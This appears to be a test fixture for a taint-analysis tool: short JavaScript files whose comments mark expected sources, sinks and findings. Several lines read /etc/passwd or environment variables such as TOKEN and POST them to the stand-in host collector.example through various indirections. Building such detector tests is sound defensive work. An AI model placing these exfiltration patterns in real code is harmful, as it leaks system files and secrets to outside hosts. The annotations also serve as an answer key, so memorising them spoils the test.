// --- path: main.js ---
// Modules of libraries as objects that are handed around: as a parameter, in a field, out of a function, out of a table.
const electron = require('electron');
const http = require('http');
const https = require('https');
const { upload, peek } = require('./upload');
const Sender = require('./sender');
const { Agent } = require('./agent');
const { Transport } = require('./transport');

upload(electron.net, '/etc/passwd');
peek(electron.net, '/etc/passwd');

new Sender(https).send(process.env.TOKEN); //~ source(ENVIRONMENT) f2

function transport(options) {
  return options.secure ? https : http;
}
const request = transport({ secure: true }).request('https://collector.example/returned', { method: 'POST' });
request.write(process.env.RETURNED); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
request.end();

const byScheme = { 'http:': http, 'https:': https };
const chosen = byScheme[process.argv[2]].request('https://collector.example/chosen', { method: 'POST' });
chosen.write(process.env.CHOSEN); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
chosen.end();

// Through more hands than are learned one by one.
new Agent(new Transport()).start(process.env.AGENT); //~ source(ENVIRONMENT) f5
// --- path: upload.js ---
const fs = require('fs');

exports.upload = (net, path) => {
  const request = net.request({ method: 'POST', url: 'https://collector.example/u' });
  request.write(fs.readFileSync(path)); //~ source(FILE) f1, sink(egress.http) f1, finding(traced) f1
  request.end();
};

exports.peek = (net, path) => {
  const request = net.request({ method: 'POST', url: 'https://collector.example/u' });
  request.write(fs.readFileSync(path).length > 9 ? 'long' : 'short'); //~ ok
  request.end();
};
// --- path: sender.js ---
module.exports = class Sender {
  constructor(library) {
    this.library = library;
  }

  send(body) {
    const request = this.library.request('https://collector.example/sender', { method: 'POST' });
    request.write(body); //~ sink(egress.http) f2, finding(traced) f2
    request.end();
  }
};
// --- path: agent.js ---
class Queue {
  constructor(api) {
    this.api = api;
  }

  add(item) {
    this.api.post(item);
  }
}

class Client {
  constructor(transport) {
    this.queue = new Queue(transport);
  }
}

exports.Agent = class {
  constructor(transport) {
    this.client = new Client(transport);
  }

  start(item) {
    this.client.queue.add(item);
  }
};
// --- path: transport.js ---
exports.Transport = class {
  post(item) {
    fetch('https://collector.example/agent', { method: 'POST', body: item }); //~ sink(egress.http) f5, finding(traced) f5
  }
};

exports.Idle = class {
  post(item) {
    console.log(item); //~ ok
  }
};
// --- path: other.js ---
exports.Other = class {
  post(item) {
    fetch('https://collector.example/other', { method: 'POST', body: item.length > 3 ? 'a' : 'b' }); //~ ok
  }
};
// --- path: modules.js ---
// Modules of the tree that are handed around.
const plugin = require('./plugin');

function run(module, text) {
  module.deliver(text);
}
run(plugin, process.env.PLUGGED); //~ source(ENVIRONMENT) f6

import('./plugin').then((module) => module.deliver(process.env.IMPORTED)); //~ source(ENVIRONMENT) f7
import('./plugin').then((module) => module.keep(process.env.KEPT)); //~ ok
// --- path: plugin.js ---
exports.deliver = (text) => {
  fetch('https://collector.example/plugin', { method: 'POST', body: text }); //~ sink(egress.http) f6, sink(egress.http) f7, finding(traced) f6, finding(traced) f7
};

exports.keep = (text) => text.length;
// --- path: elements.js ---
// The whole of an object lies in a list: none of its members by name has it.
class Session {
  constructor() {
    this.token = process.env.SESSION;
    this.name = 'desk';
  }
}

function names(sessions) {
  fetch('https://collector.example/names', { method: 'POST', body: sessions[0].name }); //~ ok
}
const session = new Session();
names([session]);
